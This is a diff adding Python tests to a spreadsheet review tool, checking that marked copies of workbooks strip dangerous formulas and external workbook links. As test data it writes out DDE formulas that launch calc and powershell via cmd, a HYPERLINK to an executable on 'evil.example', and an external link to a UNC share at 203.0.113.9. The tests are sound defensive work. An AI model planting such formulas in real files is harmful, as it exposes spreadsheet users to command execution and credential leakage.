@@ -734,6 +734,7 @@ def test_formulas_reaching_outside_become_the_values_read(tmp_path: Path) -> Non
     ws.write_formula(1, 10, "=cmd|' /C calc'!A0", None, "0571-87280114")
     ws.write_formula(1, 11, '=HYPERLINK("file://evil.example/x.exe","办事指南")', None, "办事指南")
     ws.write_formula(2, 9, "=SUM(J2:J2)", None, 1)
+    ws.write_formula(2, 11, '=A2&"|"&B2', None, "1|保安服务公司设立许可")  # a "|" in a text
     book.define_name("审核", "=cmd|' /C powershell'!A0")
     book.define_name("合计", "=事项清单!$J$2")
     book.close()
@@ -745,5 +746,63 @@ def test_formulas_reaching_outside_become_the_values_read(tmp_path: Path) -> Non
     assert (sheet["K2"].data_type, sheet["K2"].value) == ("s", "0571-87280114")
     assert (sheet["L2"].data_type, sheet["L2"].value) == ("s", "办事指南")
     assert (sheet["J3"].data_type, sheet["J3"].value) == ("f", "=SUM(J2:J2)")
+    assert (sheet["L3"].data_type, sheet["L3"].value) == ("f", '=A2&"|"&B2')
     assert "审核" not in wb.defined_names
     assert wb.defined_names["合计"].attr_text == "事项清单!$J$2"
+
+
+def test_links_to_other_workbooks_are_not_written_back(tmp_path: Path) -> None:
+    """An external link part (file:///\\\\host\\share\\x.xlsx, which Excel offers to update,
+    reaching that host) is not in the marked copy; its formula is the value read."""
+    import zipfile
+
+    from catalog_check.review import review_file
+
+    source = tmp_path / "省公安厅-第二批.xlsx"
+    _make_source(source)
+    wb = openpyxl.load_workbook(source)
+    wb[SHEET]["K5"] = "=[1]Sheet1!A1"
+    wb.save(source)
+    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    with zipfile.ZipFile(source) as zin:
+        parts = {i.filename: zin.read(i.filename) for i in zin.infolist()}
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
+        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX1"/>'
+        b"</externalReferences>")
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>", f'<Relationship Id="rIdX1" Type="{rel}/externalLink" '
+        'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType='
+        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'
+        b"</Types>")
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        f'<externalLink xmlns="{ns}" xmlns:r="{rel}"><externalBook r:id="rId1"><sheetNames>'
+        '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>').encode()
+    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{rel}/externalLinkPath" '
+        'Target="file:///\\\\203.0.113.9\\share\\x.xlsx" TargetMode="External"/>'
+        "</Relationships>").encode()
+    with zipfile.ZipFile(source, "w", zipfile.ZIP_DEFLATED) as zout:
+        for name, data in parts.items():
+            zout.writestr(name, data)
+    full = review_file(source)
+    out = write_marked_copy(source, full.workbook, full.tables.layouts, full.file,
+                            tmp_path / "m.xlsx")
+    with zipfile.ZipFile(out) as z:
+        assert not [n for n in z.namelist() if "externalLink" in n]
+        assert b"203.0.113.9" not in b"".join(z.read(n) for n in z.namelist())
+    assert openpyxl.load_workbook(out)[SHEET]["K5"].data_type != "f"
+
+
+def test_a_long_formula_is_judged_at_once(tmp_path: Path) -> None:
+    """=[.[.[.… 16,000 characters long (28 s for twenty such cells) is judged in linear time."""
+    from guards import no_hang
+
+    from catalog_check.reports.marked import _outward
+
+    with no_hang():
+        assert not _outward("=" + "[." * 16_000)
+        assert _outward("=" + "[." * 16_000 + "[x.xlsx]Sheet1!A1")
